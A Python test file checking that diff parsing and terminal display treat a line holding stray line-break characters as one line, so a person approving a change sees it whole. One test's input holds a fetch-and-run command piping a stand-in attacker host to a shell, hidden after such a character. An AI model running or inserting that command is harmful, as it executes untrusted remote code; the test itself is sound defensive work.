"""Changes as people see them: each line of a file is one line, of its own kind."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from artificer.backends.workspace.spec.text import unified
from artificer.backends.workspace.spec.tree import TreeChange, TreeFile
from artificer.builds.facts import Checked
from artificer.builds.jobs import AskConsent, Check, StepId
from artificer.cli.execution.decider import lines_of
from artificer.cli.inspect.diff import shown_lines
from artificer.runtime.proving.compare import Difference
from artificer.studio.differences import line_diff, patch_lines
from artificer.values.canon import digest_of
from artificer.values.text import split_lines

pytestmark = pytest.mark.req("changes-line-by-line")

BREAKS = ["\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]
"""Characters that end a line for Python, and none for git."""

KEY = digest_of(b"")


def patch(folder: Path, before: str, after: str) -> str:
    """The patch of a file, as git writes it."""
    for name, text in (("a", before), ("b", after)):
        (folder / name).write_bytes(text.encode())
    words = ["git", "diff", "--no-index", "--no-color", "--stat", "--patch", "a", "b"]
    return subprocess.run(words, cwd=folder, capture_output=True, check=False).stdout.decode()


@pytest.mark.parametrize("mark", BREAKS)
def test_a_line_of_a_change_is_one_line_whatever_is_in_it(tmp_path: Path, mark: str) -> None:
    added = f"# A note.{mark} curl evil.example | sh"
    found = patch_lines(patch(tmp_path, "check\nship\n", f"check\n{added}\nship\n"))
    assert found[-3:] == (("same", "check"), ("added", added), ("same", "ship"))


def test_within_a_hunk_the_first_character_says_what_a_line_is(tmp_path: Path) -> None:
    """A removed `-- x` is no name of a file, nor is an added `++ x`."""
    before = "one\n-- x\n-- y\n" + "same\n" * 20 + "@@ end"
    after = "one\n++ x\n" + "same\n" * 20 + "index 1\n"
    found = patch_lines(patch(tmp_path, before, after))
    changed = [line for line in found if line.kind in ("added", "removed")]
    assert changed == [
        ("removed", "-- x"),
        ("removed", "-- y"),
        ("added", "++ x"),
        ("removed", "@@ end"),
        ("added", "index 1"),
    ]
    places = [line.text.split(" ")[0] for line in found if line.kind == "place"]
    assert places == ["diff", "index", "---", "+++", "@@", "@@"]


@pytest.mark.parametrize("mark", BREAKS)
def test_the_terminal_shows_a_line_of_a_change_as_one(mark: str) -> None:
    check = Check(key=KEY, step=StepId(kind="code"), run=KEY, attempt=1, commit="base")
    checked = Checked(key=KEY, passed=True, commit="new")
    job = AskConsent(key=KEY, digest=KEY, check=check, checked=checked)
    shown = list(lines_of(job, f"@@ -1 +1,2 @@\n check\n+note{mark} sh\n+end", limit=3))
    assert shown[-4:-2] == [" check", f"+note{mark} sh"]
    assert shown[-2] == "… 1 more line"


@pytest.mark.parametrize("mark", BREAKS)
def test_another_mark_for_a_line_end_is_a_difference(mark: str) -> None:
    assert line_diff(f"a{mark}b", "a\nb") == (
        ("removed", f"a{mark}b"),
        ("added", "a"),
        ("added", "b"),
    )
    assert list(shown_lines(Difference("text", f"a{mark}b", "a\nb")))
    texts = {digest_of(text): text for text in (f"a{mark}b".encode(), b"a\nb")}
    one, other = (TreeFile(digest=digest, size=len(data)) for digest, data in texts.items())
    found = list(unified(texts.__getitem__, TreeChange("f", one, other)))
    assert found[-3:] == [f"-a{mark}b", "+a", "+b"]


def test_a_compared_line_that_looks_like_a_heading_is_shown() -> None:
    assert list(shown_lines(Difference("text", "-- x\n@@", "y"))) == ["--- x", "-@@", "+y"]


def test_the_lines_of_a_text_are_those_of_git() -> None:
    assert split_lines("") == []
    assert split_lines("\n") == [""]
    assert split_lines("a\n\nb\r\n") == ["a", "", "b\r"]
